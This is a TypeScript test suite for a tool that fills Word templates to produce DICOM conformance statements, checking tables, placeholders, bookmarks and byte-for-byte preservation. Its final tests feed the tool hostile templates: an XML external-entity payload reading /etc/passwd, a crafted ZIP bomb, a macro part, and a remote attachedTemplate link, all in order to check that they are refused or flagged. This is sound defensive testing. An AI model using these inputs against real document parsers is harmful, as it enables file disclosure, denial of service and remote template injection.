import { expect } from 'chai';
import { strToU8, unzipSync, type Zippable, zipSync } from 'fflate';
import { templateSections } from '../annex-n/template-sections.ts';
import type { StatementDocument } from '../document/document.ts';
import { gridOf } from '../document/grid.ts';
import { sectionsOf, tablesOf } from '../document/walk.ts';
import type { ConformanceFacts } from '../facts/conformance-facts.ts';
import { readStatement } from '../read/read-statement.ts';
import { statementFiles } from '../render/statement-files.ts';
import { factsFrom, measuredText, productText } from '../testing/example-facts.ts';
import { type TemplateChoices, wordTemplate } from '../testing/word-template.ts';

const measured = factsFrom(measuredText);
const product = factsFrom(productText);
const body = 'word/document.xml';

/** The sections that the tests are about, so that they are quick. */
const some = templateSections.filter((line) =>
  /^(?:1|1\.1|1\.2|1\.2\.1|1\.4|1\.7|5|5\.2|5\.2\.1(?:\.\d)?|5\.2\.5(?:\.\d)?|7|7\.1|7\.1\.1|7\.2.*|7\.3|7\.3\.1(?:\.\d)?|7\.3\.2|7\.3\.2\.5(?:\.\d)?) /.test(
    line,
  ),
);

/** Templates by what was chosen, each made once. */
const templates = new Map<string, Promise<Uint8Array>>();
function templateOf(choices: TemplateChoices): Promise<Uint8Array> {
  const key = JSON.stringify(choices);
  const found = templates.get(key) ?? wordTemplate({ sections: some, ...choices });
  templates.set(key, found);
  return found;
}

/** What most tests look at, made once. */
let usual: ReturnType<typeof made> | undefined;
function filled(choices: TemplateChoices, isFull = true, facts: ConformanceFacts = measured) {
  if (Object.keys(choices).length > 0 || !isFull) return made(choices, isFull, facts);
  usual ??= made(choices, isFull, facts);
  return usual;
}

async function made(choices: TemplateChoices, isFull: boolean, facts: ConformanceFacts) {
  const template = await templateOf(choices);
  return { template, ...(await inTemplate(template, isFull, facts)) };
}

async function inTemplate(template: Uint8Array, isFull = true, facts: ConformanceFacts = measured) {
  const options = { formats: ['docx'] as const, wordTemplate: template, ...(isFull && { product }) };
  const { files, notes, open } = await statementFiles(facts, options);
  const bytes = files.get(isFull ? 'statement.docx' : 'draft.docx') as Uint8Array;
  return { bytes, notes, open, xml: Buffer.from(unzipSync(bytes)[body] ?? []).toString() };
}

const rowsOf = (document: StatementDocument, title: string) => {
  const found = tablesOf(document).find(({ table }) => table.title.includes(title));
  return found ? gridOf(found.table).rows.map(({ cells }) => cells.map(({ text }) => text)) : undefined;
};

const sectionOf = (document: StatementDocument, title: string) =>
  sectionsOf(document).find((one) => one.title.startsWith(title));

const textOf = (section: ReturnType<typeof sectionOf>) =>
  (section?.blocks ?? []).map((block) => (block.kind === 'paragraph' ? block.text : block.kind));

/** A template with a part of its own in the place of another. */
function with_(template: Uint8Array, parts: Zippable): Uint8Array {
  return zipSync({ ...unzipSync(template), ...parts });
}

describe('A Word template is filled:', () => {
  it('rows are ours below its own heads, in its own look, and merged where it merges', async () => {
    const { bytes, xml } = await filled({});
    const document = await readStatement(bytes);
    expect(rowsOf(document, 'Storage SOP Classes')?.[0]?.slice(0, 5)).to.deep.equal([
      'CT Image Storage',
      '1.2.840.10008.5.1.4.1.1.2',
      'U; LL',
      'N',
      'Y',
    ]);
    expect(rowsOf(document, 'Supported Specific Character Sets')?.map(([term]) => term)).to.deep.equal([
      'Single-Byte Character Sets without Code Extensions',
      'ISO_IR 6',
      'ISO_IR 100',
      'Multi-Byte Character Sets without Code Extensions',
      'ISO_IR 192',
    ]);
    expect(xml).to.include('DICOM Web Service Bulkdata Media Type').and.not.include('Computed Radiography');
    const association = tablesOf(document).find(({ table }) => table.title === 'General Association Parameters')?.table;
    expect(association?.rows[1]?.cells[0]).to.include({ text: 'Networking Services', rows: 8 });
    const row = /<w:tr>(?:(?!<\/w:tr>).)*CT Image Storage.*?<\/w:tr>/.exec(xml)?.[0] ?? '';
    expect(row.match(/w:fill="FAFAF0"/g)).to.have.length(14);
    expect(row).to.include('<w:i w:val="0"/>');
  });

  it('what does not apply says N/A in title and text, and what was below it is gone', async () => {
    const { bytes } = await filled({});
    const document = await readStatement(bytes);
    const service = sectionOf(document, 'Basic Worklist Management Service');
    expect(service).to.include({ title: 'Basic Worklist Management Service - N/A' });
    expect([textOf(service), service?.sections]).to.deep.equal([['N/A'], []]);
    expect(rowsOf(document, 'C-FIND')).to.equal(undefined);
  });

  it('texts take the place of instructions that were followed, beside the sentences of the template', async () => {
    const { bytes } = await filled({});
    const scp = sectionOf(await readStatement(bytes), 'SCP of the Storage SOP Classes');
    expect(textOf(scp)).to.deep.equal([
      'This sentence belongs to the template of Archive One.',
      'No Attribute is coerced when an instance is received.',
      'The product neither displays nor processes instances, so no limitation of that applies.',
      'SOP Classes are added with a configuration file.',
      'table',
      'table',
    ]);
  });

  it('placeholders of names, versions, activities and Application Entities have their values', async () => {
    const { xml, bytes, notes } = await filled({});
    const document = await readStatement(bytes);
    expect(gridOf(document.front[0] as never).rows.map(({ cells }) => cells[1]?.text)).to.deep.equal([
      'Archive One',
      '3.6.7',
      'Example',
      '2026-11-29',
    ]);
    expect(notes).to.include('cover page: no place for DICOM Standard (Edition 2024c)');
    expect(sectionOf(document, 'Association Parameters of STORE_SCP')).to.include({ number: 'N.7.2.1.2' });
    expect(rowsOf(document, 'for Receive Instances of STORE_SCP - Association Acceptance')).to.have.length(5);
    expect(xml).to.not.match(/&lt;Product&gt;|&lt;AE1&gt; Application/);
  });

  it('what is open is marked as in a draft, with the list of it, and its instructions stay', async () => {
    const { bytes, xml, open } = await filled({}, false);
    expect(open.length).to.be.above(30);
    expect(xml).to.match(/<w:b\/><w:bCs\/><w:i w:val="0"\/>.{0,200}w:fill="FCF0D0"\/>.{0,60}OPEN 1: vendor/);
    const document = await readStatement(bytes);
    expect(textOf({ blocks: document.front } as never)).to.include('1 (vendor): product.name in product.yaml');
    expect(textOf(sectionOf(document, 'Media Services'))).to.include('[Describe it, and say');
  });

  it('titles below the tables, numbers in fields, heads over rows and numbers by Word are found too', async () => {
    const { xml, notes, bytes } = await filled({ isOdd: true });
    const { notes: plain } = await filled({});
    expect(notes.filter((line) => /^Table/.test(line))).to.deep.equal(plain.filter((line) => /^Table/.test(line)));
    const caption = xml.lastIndexOf('General Association Parame');
    const above = xml.slice(xml.lastIndexOf('<w:tbl>', caption), caption);
    expect(above).to.include('1.2.276.0.7230010.3.0.3.6.7');
    expect(xml).to.include('<w:fldSimple w:instr="SEQ Table"');
    const { front } = await readStatement(bytes);
    expect(textOf({ blocks: front } as never)).to.deep.equal([
      'Archive One of Example',
      'Version: 3.6.7',
      'Date: 2026-11-29',
    ]);
  });

  it('and the same template with the same facts is the same file', async () => {
    const { template, bytes } = await filled({});
    expect(Buffer.compare((await inTemplate(template)).bytes, bytes)).to.equal(0);
  });
});

describe('Of a Word template that is filled', () => {
  it('everything else stays byte for byte', async () => {
    const { template, bytes, xml } = await filled({ sections: [...some, '15 Additional Section of the Vendor'] });
    const [before, after] = [unzipSync(template), unzipSync(bytes)];
    expect(Object.keys(after)).to.deep.equal(Object.keys(before));
    for (const name of Object.keys(before).filter((one) => one !== body))
      expect(Buffer.compare(after[name] ?? new Uint8Array(), before[name] ?? new Uint8Array()), name).to.equal(0);
    const original = Buffer.from(before[body] ?? []).toString();
    const tail = original.slice(original.lastIndexOf('[Describe it, and say'));
    expect(xml.endsWith(tail)).to.equal(true);
    expect(xml.startsWith(original.slice(0, original.indexOf('<w:body>')))).to.equal(true);
  });

  it('bookmarks and the ends of sections of pages stay when what is around them goes', async () => {
    const template = await templateOf({});
    const xml = Buffer.from(unzipSync(template)[body] ?? []).toString();
    const inWorklist = xml.indexOf('<w:p>', xml.indexOf('C-FIND Query Parame'));
    const marks = '<w:bookmarkStart w:id="77" w:name="kept"/><w:bookmarkEnd w:id="77"/>';
    const added = `<w:p><w:pPr><w:sectPr><w:pgSz w:w="1" w:h="2"/></w:sectPr></w:pPr>${marks}<w:r><w:t>gone</w:t></w:r></w:p>`;
    const place = xml.lastIndexOf('</w:tbl>', xml.indexOf('SCP of the Modality')) + 8;
    expect(inWorklist).to.be.above(0);
    const own = with_(template, { [body]: strToU8(xml.slice(0, place) + added + xml.slice(place)) });
    const { xml: result } = await inTemplate(own);
    expect(result).to.include(marks).and.include('<w:pgSz w:w="1" w:h="2"/>').and.not.include('>gone<');
  });

  it('tables and sections that are not there are told, a line each', async () => {
    const { notes } = await filled({ sections: some.filter((line) => !/^(?:1\.4|7\.3\.1\.2) /.test(line)) });
    expect(notes).to.include.members([
      'section 1.4 Media Services: not found in the template',
      'Table 7-9 DICOM Communication Failure Handling as Association Acceptor: not found in the template',
      'Table 5-1 Service to AE Mapping: not found in the template',
    ]);
  });

  it('a table stands once for each Application Entity', async () => {
    const [entity] = measured.applicationEntities;
    const two = { ...measured, applicationEntities: [entity, { ...entity, name: 'SECOND' }] } as ConformanceFacts;
    const { bytes, notes } = await filled({}, false, two);
    const titles = tablesOf(await readStatement(bytes)).map(({ table }) => table.title);
    expect(titles.filter((title) => title.startsWith('Status Codes'))).to.deep.equal([
      'Status Codes C-STORE of the Storage SOP Classes - SCP for STORESCP',
      'Status Codes C-STORE of the Storage SOP Classes - SCP for SECOND',
    ]);
    expect(notes.join('\n')).to.match(/Table 7-43 .* stands 2 times under one number/);
  });
});

describe('A Word template is refused in one line:', () => {
  const refused = async (template: Uint8Array) =>
    await inTemplate(template).then(
      () => 'filled',
      (error: Error) => `${error.name}: ${error.message}`,
    );
  const small = () => templateOf({ sections: ['1 Overview'], tables: [] });

  it('with macros, a DOCTYPE, or a password', async () => {
    const template = await small();
    expect(await refused(with_(template, { 'word/vbaProject.bin': strToU8('x') }))).to.match(
      /macros .*vbaProject\.bin/,
    );
    const hostile =
      '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><w:document><w:body>&e;</w:body></w:document>';
    expect(await refused(with_(template, { [body]: strToU8(hostile) }))).to.include('DOCTYPE');
    expect(await refused(Uint8Array.of(0xd0, 0xcf, 0x11, 0xe0))).to.include('password');
  });

  it('that is none, or has no headings', async () => {
    const template = await small();
    expect(await refused(strToU8('PK\u0003\u0004 and so on'))).to.match(/^Unreadable.*ZIP/);
    expect(await refused(zipSync({ 'a.txt': strToU8('a') }))).to.include('word/document.xml');
    expect(await refused(with_(template, { [body]: strToU8('<a/>') }))).to.include('w:document');
    expect(await refused(with_(template, { [body]: strToU8('<w:document><w:body/></w:document>') }))).to.include(
      'headings',
    );
    expect(await refused(with_(template, { [body]: Uint8Array.of(0xff, 0xfe, 0x3c, 0) }))).to.include('UTF-8');
    expect(await refused(template.slice(0, template.length / 2))).to.match(/^Unreadable/);
  });

  it('beyond the limits', async () => {
    const template = await small();
    const bomb = Buffer.from(template);
    const name = bomb.indexOf(body, bomb.indexOf('PK\u0001\u0002', 0, 'latin1'));
    bomb.writeUInt32LE(2 ** 30, name - 46 + 24);
    expect(await refused(bomb)).to.match(/has more than \d+ bytes/);
    bomb.writeUInt32LE(100, name - 46 + 24);
    expect(await refused(bomb)).to.include('more than the 100 bytes');
    const deep = `<w:document>${'<w:p>'.repeat(500)}`;
    expect(await refused(with_(template, { [body]: strToU8(deep) }))).to.include('nested');
    const heading = '<w:p><w:pPr><w:outlineLvl w:val="0"/></w:pPr><w:r><w:t>1 x</w:t></w:r></w:p>';
    const headings = `<w:document><w:body>${heading.repeat(1001)}</w:body></w:document>`;
    expect(await refused(with_(template, { [body]: strToU8(headings) }))).to.include('headings');
    const titled = '<w:p><w:r><w:t>Table 1-1. x</w:t></w:r></w:p><w:tbl/>';
    const tables = `<w:document><w:body>${heading}${titled.repeat(1001)}</w:body></w:document>`;
    expect(await refused(with_(template, { [body]: strToU8(tables) }))).to.include('more than 1000 tables');
    const properties = `<w:tcPr>${'<w:x/>'.repeat(4000)}</w:tcPr>`;
    const wide = `<w:p><w:r><w:t>Table 1-1. Storage SOP Classes</w:t></w:r></w:p><w:tbl><w:tr><w:tc>${properties}<w:p/></w:tc></w:tr></w:tbl>`;
    const wideBody = `<w:document><w:body>${heading}${wide}</w:body></w:document>`;
    expect(await refused(with_(template, { [body]: strToU8(wideBody) }))).to.include('w:tcPr has more than 20000');
    const relations = Object.fromEntries(
      Array.from({ length: 9 }, (_, at) => [`word/_rels/${at}.rels`, new Uint8Array(2 ** 20)]),
    );
    expect(await refused(with_(template, relations))).to.include('relationships have more than');
    const stored = Buffer.from(zipSync({ [body]: strToU8('<a/>') }, { level: 0 }));
    stored.writeUInt32LE(3, stored.indexOf('PK\u0001\u0002', 0, 'latin1') + 24);
    expect(await refused(stored)).to.include('has not the 3 bytes');
    const many = Object.fromEntries(Array.from({ length: 4100 }, (_, at) => [`${at}`, new Uint8Array()]));
    expect(await refused(zipSync({ [body]: strToU8('<a/>'), ...many }))).to.include('parts');
  });

  it('but told and filled if it makes programs fetch something', async () => {
    const relationships = `<Relationships xmlns="x"><Relationship Id="a" Type="x/attachedTemplate" Target="http://203.0.113.9/t.dotm" TargetMode="External"/><Relationship Id="b" Type="x/hyperlink" Target="http://example.org" TargetMode="External"/></Relationships>`;
    const template = with_(await small(), { 'word/_rels/settings.xml.rels': strToU8(relationships) });
    const { notes } = await inTemplate(template);
    expect(notes.filter((line) => line.includes('fetch'))).to.deep.equal([
      'the template makes programs fetch http://203.0.113.9/t.dotm when it is opened',
    ]);
  });
});
